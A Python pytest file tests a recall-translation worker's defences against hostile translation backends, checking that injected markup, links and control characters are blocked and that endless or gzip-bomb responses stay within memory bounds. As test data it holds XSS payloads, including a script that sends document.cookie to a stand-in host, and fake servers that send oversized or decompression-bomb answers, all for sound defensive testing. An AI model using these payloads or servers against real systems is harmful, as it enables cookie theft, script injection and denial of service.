"""Hostile translators (issue 34, item 7): answers are bounded in size and count, and an answer
with markup, script, links or control characters the original lacks is blocked with its
reason, never stored. The memory bounds are measured in a child process capped with
setrlimit, so a regression fails the test instead of exhausting the machine."""
import json
import subprocess
import sys
from http.server import BaseHTTPRequestHandler

import pytest

from basecrawler import Store
from basecrawler.testing import ThreadedServer
from conftest import subprocess_env
from translate.fakeserver import FakeLibreTranslate, pseudo_korean
from translate.guards import check
from translate.testing import libre, seed, statuses
from translate.worker import translate_pending

MB = 1 << 20
SOURCE = "The airbag inflator may rupture on 2,700 vehicles built 05/01/2024."
GOOD = "에어백 인플레이터가 2024년 5월 1일에 제작된 차량 2,700대에서 파열될 수 있습니다."


class HostilePost(ThreadedServer):
    """Answers every POST by `handler(h, payload)` writing the raw response itself, lazily."""

    def __init__(self, handler):
        self.requests = 0

        outer = self

        class _Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args):
                pass

            def do_POST(self):
                outer.requests += 1
                payload = json.loads(self.rfile.read(int(self.headers.get("Content-Length") or 0)))
                self.close_connection = True
                try:
                    handler(self, payload)
                except (BrokenPipeError, ConnectionResetError):
                    pass   # the client stopped reading: what it should do

        self._listen(_Handler)


def endless_translation(total_mb: int):
    """A LibreTranslate answer whose one translation is `total_mb` MB of Hangul, no Content-Length."""
    def handler(h, payload):
        h.send_response(200)
        h.send_header("Content-Type", "application/json")
        h.send_header("Connection", "close")
        h.end_headers()
        h.wfile.write(b'{"translatedText": ["')
        chunk = ("에어백 " * (MB // 10)).encode("utf-8")
        for _ in range(max(1, total_mb * MB // len(chunk))):
            h.wfile.write(chunk)
        h.wfile.write(b'"]}')
    return handler


def gzip_translation(inflated_mb: int):
    """A gzip-encoded answer inflating to `inflated_mb` MB (about 1 KB per MB on the wire)."""
    def handler(h, payload):
        import zlib
        h.send_response(200)
        h.send_header("Content-Type", "application/json")
        h.send_header("Content-Encoding", "gzip")
        h.send_header("Connection", "close")
        h.end_headers()
        compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
        h.wfile.write(compressor.compress(b'{"translatedText": ["'))
        block = "가".encode("utf-8") * (MB // 3)
        for _ in range(inflated_mb):
            h.wfile.write(compressor.compress(block))
        h.wfile.write(compressor.compress(b'"]}') + compressor.flush())
    return handler


# ---- markup and control characters -----------------------------------------------------------

@pytest.mark.parametrize("answer, reason", [
    (f"<script>alert(1)</script>{GOOD}", "tag not in the original: '<script'"),
    (f"{GOOD} <img src=x onerror=alert(1)>", "tag not in the original: '<img'"),
    (f"{GOOD} &lt;b&gt;", "entity not in the original: '&lt;'"),
    (f"javascript:{GOOD}", "script not in the original: 'javascript:'"),
    (f"{GOOD} https://evil.example/x", "link not in the original: 'https://evil.example/x'"),
    (f"{GOOD}\u202e", "control character not in the original: U+202E"),
    (f"{GOOD}\x1b[31m", "control character not in the original: U+001B"),
    (f"{GOOD} {{{{7*7}}}}", "template not in the original: '{{'"),
])
def test_markup_script_links_and_controls_the_original_lacks_are_blocked_with_the_reason(answer, reason):
    assert check(SOURCE, GOOD, "en") is None
    assert check(SOURCE, answer, "en") == reason


def test_markup_the_original_has_may_come_back():
    source = "Press <OK> on the screen; see section 3 & 4."
    assert check(source, "화면에서 <OK>를 누르십시오. 3 & 4절을 참조하십시오.", "en") is None


def test_script_answer_with_enough_hangul_is_blocked_in_the_worker_and_never_stored(store):
    seed(store, 2)
    hostile = "<script>fetch('//x.example/'+document.cookie)</script> 에어백 인플레이터가 파열될 수 있습니다 0번 차량"
    texts = ["The airbag inflator may rupture in vehicle number 0."]
    with FakeLibreTranslate(overrides={texts[0]: hostile}) as server:
        translate_pending(store, libre(server))
    bad, good = store.lookup.get("vehicle_recall", {"country": "US", "recall_number": "US-0000"}), store.lookup.get("vehicle_recall", {"country": "US", "recall_number": "US-0001"})
    assert bad["translation_status"] == "blocked" and bad["summary_ko"] is None
    assert bad["translation_note"] == "summary: tag not in the original: '<script'"
    assert good["translation_status"] == "translated" and "<" not in good["summary_ko"]
    assert not store.query("SELECT 1 FROM translation_memory WHERE translated_text LIKE '%<script%'")


# ---- size --------------------------------------------------------------------------------------

def test_an_answer_far_longer_than_its_source_is_blocked_before_any_other_check():
    answer = GOOD * 200   # also a repetition, but the length decides first and cheaply
    assert check(SOURCE, answer, "en") == f"answer too long: {len(answer)} characters for {len(SOURCE)} in the source"


def fixed_answer(answer: dict):
    def handler(h, payload):
        data = json.dumps(answer, ensure_ascii=False).encode("utf-8")
        h.send_response(200)
        h.send_header("Content-Type", "application/json")
        h.send_header("Connection", "close")
        h.send_header("Content-Length", str(len(data)))
        h.end_headers()
        h.wfile.write(data)
    return handler


def test_a_backend_answering_more_translations_than_texts_fails_those_rows_with_the_reason(store):
    seed(store, 1)
    with HostilePost(fixed_answer({"translatedText": [GOOD] * 1000})) as server:
        report = translate_pending(store, libre(server))
    row = store.lookup.get("vehicle_recall", {"country": "US", "recall_number": "US-0000"})
    assert report.failed == 1 and row["summary_ko"] is None
    assert "summary: backend error: libretranslate returned 1000 translations for 1 texts" in row["translation_note"]


CHILD = r'''
import json, resource, sys
resource.setrlimit(resource.RLIMIT_AS, (1500 << 20, 1500 << 20))   # a regression fails here, not the machine
url, how, db = sys.argv[1], sys.argv[2], sys.argv[3]
from translate.backends import LibreTranslateBackend
from translate.errors import BackendItemError
backend = LibreTranslateBackend(url, retry_waits_s=(), timeout_s=60)
if how == "backend":
    try:
        outcome = f"translated {len(backend.translate(['The airbag may rupture.'], 'en')[0])} characters"
    except BackendItemError as exc:
        outcome = f"refused: {exc}"
else:
    from basecrawler import Store
    from translate.worker import translate_pending
    store = Store(db)
    report = translate_pending(store, backend)
    outcome = report.summary_line().split(" [")[0]
    store.close()
# VmHWM, not ru_maxrss: Linux carries ru_maxrss across exec, so a child of a large pytest
# worker would report the worker's peak (vfork shares its memory until exec).
print(json.dumps({"outcome": outcome, "peak_mb": int(next(line.split()[1] for line in open("/proc/self/status") if line.startswith("VmHWM"))) / 1024}))
'''


def _in_child(url: str, how: str, db: str = "") -> dict:
    done = subprocess.run([sys.executable, "-c", CHILD, url, how, db], env=subprocess_env(),
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr[-3000:]
    return json.loads(done.stdout.strip().splitlines()[-1])


def test_an_endless_answer_is_cut_at_its_bound_in_bounded_memory():
    with HostilePost(endless_translation(2048)) as server:
        result = _in_child(server.url, "backend")
    assert result["outcome"].startswith("refused: libretranslate answered more than the ")
    assert result["peak_mb"] < 300, result


def test_a_compressed_answer_is_bounded_by_what_it_inflates_to():
    with HostilePost(gzip_translation(1200)) as server:
        result = _in_child(server.url, "backend")
    assert result["outcome"].startswith("refused: libretranslate answered more than the ")
    assert result["peak_mb"] < 300, result


def test_ten_megabyte_answers_leave_the_worker_in_bounded_memory_and_fail_only_their_rows(store, db_path):
    seed(store, 3)
    store.close()
    with HostilePost(endless_translation(10)) as server:
        result = _in_child(server.url, "worker", db_path)
    # Three texts in one request, refused; then one by one, each refused: every row failed, none stored.
    assert result["outcome"] == "translate: translated 0, from memory 0, blocked 0, failed 3, pending 0"
    assert result["peak_mb"] < 300, result
    reopened = Store(db_path)
    try:
        notes = {r["translation_note"] for r in reopened.query("SELECT translation_note FROM recalls")}
        assert statuses(reopened) == {"failed": 3}
    finally:
        reopened.close()
    parts = [part for note in notes for part in note.split("; ")]
    assert parts and all(": backend error: libretranslate answered more than the " in part for part in parts), parts
